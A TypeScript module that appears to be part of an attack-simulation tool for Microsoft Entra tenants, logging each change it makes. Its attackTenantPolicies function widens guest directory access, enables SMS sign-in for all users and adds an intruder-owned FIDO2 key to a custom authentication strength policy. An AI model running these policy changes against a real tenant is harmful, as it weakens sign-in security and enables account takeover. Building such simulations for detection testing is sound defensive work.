import { isJsonObject, type Json, type JsonObject } from '#catalogue';
import { textOf, textsOf } from '../model/json-text.js';
import { nameOf, type Intruder } from './intruder.js';

const AUTHORIZATION = '/policies/authorizationPolicy';
const METHODS = '/policies/authenticationMethodsPolicy';
const STRENGTHS = '/policies/authenticationStrengthPolicies';

/** The role by which guests see as much as members do. */
const AS_MEMBERS = 'a0b1b346-4d3e-4e8b-98f8-753987be4970';
const AS_GUESTS = '10dae51f-b6af-4016-8d66-8c2a99b929b3';

/** The kind of security key that the intruder owns. */
const OWN_KEY = '90a3ccdf-635c-4729-a248-9b709135078f';

/** Lets guests see everything, opens sign-in by text message to all, and lets the intruder's own security key count as strong. */
export async function attackTenantPolicies(intruder: Intruder): Promise<void> {
  await openAuthorization(intruder);
  await openTextMessages(intruder);
  await weakenStrength(intruder);
}

async function openAuthorization(intruder: Intruder): Promise<void> {
  const policy = await intruder.read(AUTHORIZATION);
  const set = {
    guestUserRoleId: policy['guestUserRoleId'] === AS_MEMBERS ? AS_GUESTS : AS_MEMBERS,
    blockMsolPowerShell: policy['blockMsolPowerShell'] !== true,
  };
  await intruder.send('PATCH', AUTHORIZATION, set);
  intruder.ledger.add({
    type: 'authorizationPolicy',
    id: textOf(policy['id']),
    kind: 'modified',
    name: nameOf(policy),
    attributes: Object.keys(set),
  });
}

async function openTextMessages(intruder: Intruder): Promise<void> {
  const policy = await intruder.read(METHODS);
  const path = `${METHODS}/authenticationMethodConfigurations/Sms`;
  const present = await intruder.read(path);
  const everyone = {
    targetType: 'group',
    id: 'all_users',
    isRegistrationRequired: false,
    isUsableForSignIn: true,
  };
  await intruder.send('PATCH', path, {
    '@odata.type': present['@odata.type'] ?? null,
    state: present['state'] === 'enabled' ? 'disabled' : 'enabled',
    includeTargets: [everyone],
  });
  intruder.ledger.add({
    type: 'authenticationMethodPolicy',
    id: textOf(policy['id']),
    kind: 'modified',
    name: nameOf(policy),
    attributes: ['sms'],
  });
}

/** Built-in strengths are not for anybody to change. */
async function weakenStrength(intruder: Intruder): Promise<void> {
  const strengths = intruder.shuffled(await intruder.list(STRENGTHS));
  const strength = strengths.find(
    (one) => one['policyType'] === 'custom' && textsOf(one['allowedCombinations']).includes('fido2'),
  );
  if (!strength) return;
  const path = `${STRENGTHS}/${strength.id}/combinationConfigurations`;
  const type = '#microsoft.graph.fido2CombinationConfiguration';
  const present = configurationsOf(strength).find((one) => one['@odata.type'] === type);
  if (present)
    await intruder.send('PATCH', `${path}/${textOf(present['id'])}`, {
      '@odata.type': type,
      allowedAAGUIDs: toggled(textsOf(present['allowedAAGUIDs'])),
    });
  else
    await intruder.send('POST', path, {
      '@odata.type': type,
      appliesToCombinations: ['fido2'],
      allowedAAGUIDs: [OWN_KEY],
    });
  intruder.ledger.add({
    type: 'authenticationStrengthPolicy',
    id: strength.id,
    kind: 'modified',
    name: nameOf(strength),
    attributes: ['combinationConfigurations'],
  });
}

function configurationsOf(strength: JsonObject): readonly JsonObject[] {
  const configurations: Json = strength['combinationConfigurations'] ?? [];
  return Array.isArray(configurations) ? (configurations as readonly Json[]).filter(isJsonObject) : [];
}

function toggled(keys: readonly string[]): readonly string[] {
  return keys.includes(OWN_KEY) ? keys.filter((key) => key !== OWN_KEY) : [...keys, OWN_KEY];
}
